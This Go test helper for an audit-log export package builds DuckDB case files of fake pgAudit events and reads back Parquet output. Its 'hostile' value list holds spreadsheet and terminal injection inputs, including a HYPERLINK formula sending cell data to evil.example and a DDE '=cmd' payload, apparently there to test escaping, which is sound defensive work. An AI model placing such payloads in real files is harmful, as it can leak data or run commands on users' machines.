package export

import (
	"context"
	"database/sql"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	_ "github.com/duckdb/duckdb-go/v2"

	"github.com/auditlens/auditlens/store"
	"github.com/auditlens/auditlens/store/model"
)

var t0 = time.Date(2026, 11, 25, 11, 0, 0, 123456000, time.UTC)

const (
	secretLiteral = "123-45-6789"
	secretNumber  = "987654321"
	bigStatement  = 1 << 20
)

// hostile are statement (and user, param) values a spreadsheet or terminal
// could misread.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	"+1",
	"-2",
	"@SUM(A1:A9)",
	"\tTAB start",
	"\rCR start",
	"\x1b[31mred\x1b[0m and \x1b]0;title\x07",
	"nul\x00byte",
	"bad \xff\xfe utf-8",
	"quote \" comma , newline \n crlf \r\n end",
	"SELECT * FROM people WHERE ssn = '" + secretLiteral + "' AND id = " + secretNumber,
	"SELECT $$dollar " + secretLiteral + "$$, E'esc\\'" + secretLiteral + "'",
	"=cmd|' /C calc'!A0",
	"ünïcødé ✓ 😀",
	"",
}

// caseFile builds a case file with two objects of hostile events and returns
// its path, closed.
func caseFile(t testing.TB) string {
	t.Helper()
	ctx := context.Background()
	p := filepath.Join(t.TempDir(), "case.duckdb")
	st, err := store.Open(ctx, p, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	var evs []model.Event
	for i, s := range append(hostile, strings.Repeat("x", bigStatement)+"=tail") {
		cluster := "orders-prod"
		if i%2 == 1 {
			cluster = "billing-prod"
		}
		user := "app"
		if i == 3 {
			user = "=2+5"
		}
		e := model.Event{
			Source: model.SourcePgAudit, Cluster: cluster, Instance: "i-1",
			LogTime: t0.Add(time.Duration(i) * 25 * time.Hour), SessionID: fmt.Sprintf("6b06c999.%x", i),
			StatementID: model.Int64(int64(i)), SubstatementID: model.Int64(1), AuditType: "SESSION",
			Class: "READ", Command: "SELECT", ObjectType: "TABLE", ObjectName: "public.people",
			Statement: s, Params: []string{"=1+1", "p,\"q\"", secretLiteral}, RowCount: model.Int64(int64(i - 2)),
			DatabaseName: "orders", UserName: user, ApplicationName: "psql", RemoteHost: "10.0.0.1",
			RemotePort: model.Int32(5432), PID: model.Int32(int32(1000 + i)), ObjectRef: fmt.Sprintf("/logs/x:%d", i),
		}
		if i == 5 {
			e.Params = nil
			e.ErrorMessage = "-ERR"
		}
		evs = append(evs, e)
	}
	// Internal users are hidden by default: this row must not be exported.
	evs = append(evs, model.Event{Source: model.SourceDAS, Cluster: "orders-prod", LogTime: t0, UserName: "rdsadmin",
		Internal: true, ObjectRef: "s3://b/k#9", Statement: "SELECT internal"})
	for n, part := range [][]model.Event{evs[:7], evs[7:]} {
		uri := fmt.Sprintf("s3://acme-logs/orders/postgresql.log.2026-11-25-1%d", n)
		tx, err := st.BeginObject(ctx, store.ObjectMeta{Source: "orders-logs", URI: uri, Key: uri,
			ETag: fmt.Sprintf("etag-%d", n), VersionID: fmt.Sprintf("v%d", n), Size: 100})
		if err != nil {
			t.Fatal(err)
		}
		if err := tx.Append(&model.Batch{Events: part}); err != nil {
			t.Fatal(err)
		}
		if _, err := tx.Commit(fmt.Sprintf("%064d", n)); err != nil {
			t.Fatal(err)
		}
	}
	return p
}

// bulkCaseFile builds a case file with n generated events in one object.
func bulkCaseFile(t testing.TB, n int) string {
	t.Helper()
	ctx := context.Background()
	p := filepath.Join(t.TempDir(), "bulk.duckdb")
	st, err := store.Open(ctx, p, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	db := st.DB()
	if _, err := db.ExecContext(ctx, `INSERT INTO objects (object_id, source, uri, object_key, etag, sha256, status, event_count, ingested_at)
		VALUES (1, 'bulk', 's3://acme/bulk-1', 'bulk-1', 'etag-1', 'aa', 'ok', ?, now())`, n); err != nil {
		t.Fatal(err)
	}
	if _, err := db.ExecContext(ctx, `INSERT INTO events (event_id, object_id, source, cluster, instance, log_time, session_id,
			statement_id, substatement_id, audit_type, class, command, object_type, object_name, statement, params, row_count,
			database_name, user_name, application_name, remote_host, remote_port, pid, error_message, exit_code, object_ref)
		SELECT i + 1, 1, CASE WHEN i % 2 = 0 THEN 'das' ELSE 'pgaudit' END, 'cluster-' || (i % 3), 'inst-1',
			TIMESTAMPTZ '2026-01-01 00:00:00+00' + to_microseconds(i * 1000), '6b06c999.' || (i % 5000), i, 1, 'SESSION',
			'READ', 'SELECT', 'TABLE', 'public.orders',
			'SELECT * FROM orders WHERE id = ' || i || ' AND name = ''cust' || i || '''', ['p' || i], i % 100,
			'orders', 'app_user', 'psql', '10.0.' || (i % 250) || '.1', 5432, 1000 + i % 100,
			CASE WHEN i % 97 = 0 THEN '-error ' || i END, 0, 's3://acme/bulk-1#' || i
		FROM range(?) t(i)`, n); err != nil {
		t.Fatal(err)
	}
	return p
}

func openStore(t testing.TB, p string, readOnly bool) *store.Store {
	t.Helper()
	st, err := store.Open(context.Background(), p, store.Options{ReadOnly: readOnly})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })
	return st
}

// expected reads what a filter export must contain, as driver values.
func expected(t *testing.T, st *store.Store, f store.Filter) ([]column, [][]any) {
	t.Helper()
	where, args := f.SQL()
	rows, err := st.DB().Query("SELECT "+strings.Join(viewColumns, ", ")+" FROM events WHERE "+where+" ORDER BY log_time, event_id", args...)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	cts, _ := rows.ColumnTypes()
	var cols []column
	for _, c := range cts {
		cols = append(cols, column{Name: c.Name(), Type: c.DatabaseTypeName()})
	}
	var out [][]any
	for rows.Next() {
		vals := make([]any, len(cols))
		ptrs := make([]any, len(cols))
		for i := range vals {
			ptrs[i] = &vals[i]
		}
		if err := rows.Scan(ptrs...); err != nil {
			t.Fatal(err)
		}
		out = append(out, vals)
	}
	return cols, out
}

func readParquet(t *testing.T, glob string, hive bool) ([]string, [][]any) {
	t.Helper()
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	rows, err := db.Query("SELECT * FROM read_parquet(?, hive_partitioning = ?)", glob, hive)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	cols, _ := rows.Columns()
	var out [][]any
	for rows.Next() {
		vals := make([]any, len(cols))
		ptrs := make([]any, len(cols))
		for i := range vals {
			ptrs[i] = &vals[i]
		}
		if err := rows.Scan(ptrs...); err != nil {
			t.Fatal(err)
		}
		out = append(out, vals)
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return cols, out
}
